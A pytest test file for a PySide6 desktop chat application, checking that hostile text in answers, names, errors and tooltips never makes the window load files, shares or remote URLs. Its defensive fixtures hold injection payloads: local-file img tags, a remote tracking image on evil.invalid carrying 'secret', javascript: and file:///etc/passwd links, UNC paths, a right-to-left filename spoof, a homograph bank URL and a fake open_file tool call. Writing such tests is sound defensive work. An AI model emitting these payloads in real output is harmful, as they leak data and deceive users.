"""Whatever stands in an answer, a document or a name: the window loads, opens and follows nothing.

Every place of the window is filled with text that names files, shares and servers in all the ways that Qt is
known to follow, and walked through; the kernel tells whether one of the named files was opened.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt, QUrl
from PySide6.QtGui import QDesktopServices, QImage, QTextDocument
from PySide6.QtWidgets import QApplication, QLabel, QMessageBox, QTextEdit, QToolTip, QWidget
from pytestqt.qtbot import QtBot

from desktop.chat.textview import InertDocument, TextView
from desktop.theme.theme import Theme
from desktop.window.ports import ProviderRow
from desktop.window.window import Window
from engine.answering import Answered
from engine.chats.store import Scope
from engine.frontier.values import Provider
from engine.masking.values import Mask
from engine.values import Answer, Seconds, Sentence, Source, TextDelta, Tokens
from rag.values import DocumentRow, Page, Problem
from tests.desktop import preview
from tests.fakes.application import FakeApplication, collection
from tests.fakes.cloud import BLOCKED, OFFER
from tests.fakes.models import QWEN
from tests.fakes.opened import Opened, watching

Open = Callable[[FakeApplication], Window]
SHARE = "//server.invalid/share/x.png"
SERVER = "https://evil.invalid/track.png?q=secret"


@pytest.fixture
def picture(tmp_path: Path) -> Path:
    """A real picture, so that whoever is led to it does open it."""
    path = tmp_path / "picture.png"
    image = QImage(900, 3, QImage.Format.Format_RGB32)
    image.fill(0)
    assert image.save(str(path))
    return path


@pytest.fixture
def opened(picture: Path) -> Iterator[Opened]:
    with watching(picture) as watch:
        yield watch


@pytest.fixture
def outside(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Everything that was handed to the system's own programs."""
    handed: list[str] = []

    def take(url: QUrl) -> bool:
        handed.append(url.toString())
        return True

    monkeypatch.setattr(QDesktopServices, "openUrl", take)
    return handed


@pytest.fixture
def loaded(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every name that a text asked to be loaded."""
    names: list[str] = []
    for kind in (InertDocument, TextView):
        original = kind.loadResource

        def record(self: Any, resource: int, name: Any, original: Any = original) -> Any:
            names.append(str(name))
            return original(self, resource, name)

        monkeypatch.setattr(kind, "loadResource", record)
    return names


def hostile(picture: Path) -> str:
    address = QUrl.fromLocalFile(str(picture)).toString()
    return (
        f'<img src="{address}"><img src="{picture}"><b>bold</b> ![]({address}) ![chart]({picture}) '
        f"![unc]({SHARE}) ![remote]({SERVER}) [file]({address}) [script](javascript:alert(1)) "
        f"[data](data:text/html,x) [page]({SERVER}) <a href='{address}'>press</a> "
        f'<body background="{address}"><link rel="stylesheet" href="{address}"> \u202egpj.exe\u202c '
        f'{{"tool":"open_file","path":"{picture}"}} <iframe src="{address}"></iframe>'
    )


def everywhere(application: FakeApplication, text: str) -> int:
    """Put `text` into everything of an application that somebody else may have written."""
    line = " ".join(text.split())
    source = Source(line, f"/docs/{line}.pdf", 3, 0, len(text), text, line, 0.9)
    answer = Answer(
        f"{text}\n\n| {line} | b |\n|---|---|\n| {line} | ![x]({SERVER}) |\n\n> {line}\n\n- {line}\n\n"
        f"```\n{text}\n```\n\n# {line}",
        False, True, (Sentence(text, 0, len(text), "found", (0,), ((0, 20),)),), (source,), line, "local",
        Tokens(9, 0, 9), Seconds(0.1, 0.2, 0.3),
    )  # fmt: skip
    application.installed = [replace(QWEN, name=line, notes=line) if hasattr(QWEN, "notes") else QWEN]
    application.library = [collection(line, 3, problems=[Problem(f"/docs/{line}", line)], folder=f"/{line}")]
    application.rows = [DocumentRow(1, line, line, source.path, "ready", "", 96, 14, 4, (line,))]
    application.pages[source.path, 3] = Page(3, text)
    chat = application.add_chat(line, scope=Scope("collection", line))
    application.settings["window.chat"] = chat
    application.add_message(chat, "user", text)
    application.add_message(chat, "assistant", answer.text, answer=answer, model=line)
    provider = Provider(line, line, "openai", "https://evil.invalid/v1", (line, "m"), False)
    application.cloud.rows = [ProviderRow(provider, used=True)]
    application.cloud.now_policy = replace(application.cloud.now_policy, provider=line, model=line)
    application.cloud.masks = [Mask("⟨PERSON_1⟩", "PERSON", "gpj.exe"), Mask(line, "ID", "bold")]
    application.cloud.unsought = line
    application.cloud.kept_here = ((0, line),)
    application.cloud.routes = [replace(OFFER, provider=line, model=line)]
    application.cloud.replies = [
        [TextDelta(text), Answered(replace(answer, tier="frontier", model=line))],
        [TextDelta(text), RuntimeError(text)],
    ]
    application.answers = [[TextDelta(text), Answered(answer)], [TextDelta(text), RuntimeError(text)]]
    return chat


def settle(qtbot: QtBot, window: Window) -> None:
    qtbot.waitUntil(lambda: not window.conversation.runs.any and not window.lanes.errands.is_busy)
    QApplication.processEvents()
    window.grab()


def check(window: QWidget) -> None:
    """No text of the window is one that Qt would read as HTML, or one with a document that loads."""
    for label in window.findChildren(QLabel):
        assert label.textFormat() == Qt.TextFormat.PlainText or not Qt.mightBeRichText(label.text()), label
    for view in window.findChildren(QTextEdit):
        assert isinstance(view, TextView), view
        assert isinstance(view.document(), InertDocument), view
        assert "<img" not in view.toHtml()
        assert "file:" not in "".join(_anchors(view.document()))
    for widget in [window, *window.findChildren(QWidget)]:
        assert "<img" not in widget.toolTip(), widget
        assert "<a " not in widget.toolTip(), widget


def _anchors(document: QTextDocument) -> Iterator[str]:
    block = document.begin()
    while block.isValid():
        pieces = block.begin()
        while not pieces.atEnd():
            yield pieces.fragment().charFormat().anchorHref()
            pieces += 1
        block = block.next()


def test_plain_qt_would_open_the_picture(qtbot: QtBot, picture: Path, opened: Opened) -> None:
    """The canary: without the walls the same text is followed, so the test below can fail."""
    label = QLabel(f'<img src="{picture}">')
    qtbot.addWidget(label)
    label.show()
    label.grab()
    assert "picture.png" in opened.look()


def test_hostile_text_everywhere_opens_nothing(
    qtbot: QtBot,
    picture: Path,
    application: FakeApplication,
    open_window: Open,
    opened: Opened,
    outside: list[str],
    loaded: list[str],
) -> None:
    chat = everywhere(application, hostile(picture))
    window = open_window(application)
    window.begin()

    def walk() -> None:
        settle(qtbot, window)
        check(window)

    walk()
    window.chat.sources.open(0, 0)
    walk()
    window.viewing.close()
    for view in ("Messages", "Raw request"):
        window.conversation.ask_cloud()
        settle(qtbot, window)
        window.asking.sheet.choose_view(view)
        walk()
        window.asking.sheet.close_sheet()
    for _ in range(2):  # an answer, then a failure
        window.conversation.ask_cloud()
        qtbot.waitUntil(lambda: window.asking.preview.draft is not None)
        window.asking.sheet._send.click()
        walk()
    for kept in application.cloud.receipts:
        for view in ("What came back", "What was sent", "What was masked"):
            window.asking.show_receipt(kept)
            window.asking.receipt.choose(view)
            walk()
            window.asking.receipt.close_sheet()
    for _ in range(2):
        window.conversation.ask("Once more?")
        walk()
    window.conversation.open_chat(next(row for row in application.chats() if row.id == chat))
    walk()
    for place in ("documents", "tasks", "models", "settings", "privacy", "usage"):
        if place in window._pages:
            window.show_place(place)
            walk()
    window.show_failure(RuntimeError(hostile(picture)))
    window.toast.say(hostile(picture))
    walk()
    window.sheet.close_sheet()
    application.cloud.routes = [replace(BLOCKED, reason=hostile(picture))]
    window.conversation.open_chat(next(row for row in application.chats() if row.id == chat))
    walk()
    assert opened.look() == []
    assert outside == []
    assert loaded == []


@pytest.mark.parametrize("state", [name for name in preview.STATES if "hostile" in name])
def test_no_screen_reads_a_hostile_name_as_html(
    qtbot: QtBot, application: FakeApplication, open_window: Open, outside: list[str], state: str
) -> None:
    prepare, then = preview.STATES[state]
    prepare(application)
    window = open_window(application)
    then(window)
    settle(qtbot, window)
    check(window)
    assert outside == []


def test_nothing_of_ours_shows_a_box_or_tooltip_of_its_own() -> None:
    """Qt's message boxes and free tooltips read HTML; sheets and `tooltip()` take their places."""
    root = Path(__file__).parents[2] / "desktop"
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        for name in (QMessageBox.__name__, QToolTip.__name__ + ".showText", ".setHtml(", ".setMarkdown("):
            assert name not in text, f"{path.name} uses {name}"


# Links: shown first, opened by a press


def opened_links(window: Window, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    handed: list[str] = []

    def take(address: Any) -> bool:
        handed.append(address.url)
        return True

    monkeypatch.setattr("desktop.window.asking.open_address", take)
    return handed


def words_of(sheet: QWidget) -> str:
    return " ".join(made.text() for made in sheet.findChildren(QLabel)).replace("\u200b", "")


def press(sheet: QWidget, words: str) -> None:
    from PySide6.QtWidgets import QPushButton

    next(made for made in sheet.findChildren(QPushButton) if made.text() == words).click()


def answer_with(application: FakeApplication, text: str) -> None:
    chat = application.add_chat("x")
    application.settings["window.chat"] = chat
    application.add_message(chat, "user", "x")
    made = Answer(text, False, False, (), (), "qwen", "local", Tokens(), Seconds())
    application.add_message(chat, "assistant", text, answer=made)


def test_a_link_shows_where_it_leads_and_is_opened_by_a_press_alone(
    qtbot: QtBot, application: FakeApplication, open_window: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    answer_with(application, "[https://bank.com](https://b\u0430nk.com/login?q=1)")
    window = open_window(application)
    handed = opened_links(window, monkeypatch)
    view = window.chat.transcript.last_answer
    assert view is not None
    view._view.anchorClicked.emit(QUrl("#link0"))
    assert window.sheet.isVisible()
    assert window.sheet.title == "Open xn--bnk-6cd.com?"
    assert "https://xn--bnk-6cd.com/login?q=1" in words_of(window.sheet)
    assert "b\u0430nk.com" in words_of(window.sheet)
    assert handed == []
    press(window.sheet, "Cancel")
    assert handed == []
    view._view.anchorClicked.emit(QUrl("#link0"))
    press(window.sheet, "Open")
    assert handed == ["https://xn--bnk-6cd.com/login?q=1"]


def test_an_image_is_a_link_like_any_other(
    qtbot: QtBot, application: FakeApplication, open_window: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    answer_with(application, f"![a chart]({SERVER}{'x' * 80})")
    window = open_window(application)
    handed = opened_links(window, monkeypatch)
    view = window.chat.transcript.last_answer
    assert view is not None
    assert view._view.toPlainText() == "Image: a chart (evil.invalid)"
    view._view.anchorClicked.emit(QUrl("#link0"))
    assert "may be words of your documents" in words_of(window.sheet)
    assert handed == []


@pytest.mark.parametrize(
    "address", ["file:///etc/passwd", "javascript:alert(1)", "smb://server/share", "\\\\server\\share", SHARE]
)
def test_no_other_address_can_be_opened_even_when_it_is_asked_for(
    qtbot: QtBot,
    application: FakeApplication,
    window: Window,
    monkeypatch: pytest.MonkeyPatch,
    address: str,
) -> None:
    handed = opened_links(window, monkeypatch)
    window.conversation.link_asked.emit(address)
    assert window.sheet.title == "This link is not opened"
    press(window.sheet, "Close")
    assert handed == []


def test_a_link_is_followed_while_it_streams_as_afterwards(
    qtbot: QtBot, theme: Theme, monkeypatch: pytest.MonkeyPatch
) -> None:
    from desktop.chat.answer import AnswerView
    from desktop.chat.run import Progress

    view = AnswerView(theme)
    qtbot.addWidget(view)
    asked: list[str] = []
    view.link_asked.connect(asked.append)
    text = "One [a](https://a.example/1) and [b](https://b.example/2)"
    for end in range(1, len(text) + 1):
        view.show_progress(Progress(text=text[:end]))
    found = [name for name in _anchors(view._view.document()) if name]
    for name in dict.fromkeys(found):
        view._view.anchorClicked.emit(QUrl(name))
    assert asked == ["https://a.example/1", "https://b.example/2"]
